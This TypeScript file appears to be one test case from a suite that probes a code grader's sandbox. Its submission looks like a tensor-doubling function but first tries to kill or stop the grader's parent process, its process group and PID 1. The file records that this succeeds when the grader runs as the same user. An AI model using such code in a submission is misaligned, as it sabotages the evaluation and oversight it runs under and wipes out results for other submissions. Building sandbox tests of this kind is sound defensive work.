import type { Attack } from "../attack";

export const attack: Attack = {
  title: "ends the grader, its parent",
  reachesOut: true,
  handIn: ({ double }) => double(`const ways: (() => unknown)[] = [
  () => process.kill(process.ppid, "SIGKILL"), () => process.kill(process.ppid, "SIGSTOP"),
  () => process.kill(-process.ppid, "SIGKILL"), () => process.kill(1, "SIGKILL"),
];
export function double(x: tf.Tensor) {
  for (const way of ways) {
    try {
      way();
    } catch {}
  }
  return tf.mul(x, 2);
}`),
  outcome: {},
  weaker: {
    "same user": {
      says: "succeeds: the grader is ended, with no results for this submission and those that are still under way",
      graderEnds: "SIGKILL",
    },
  },
};
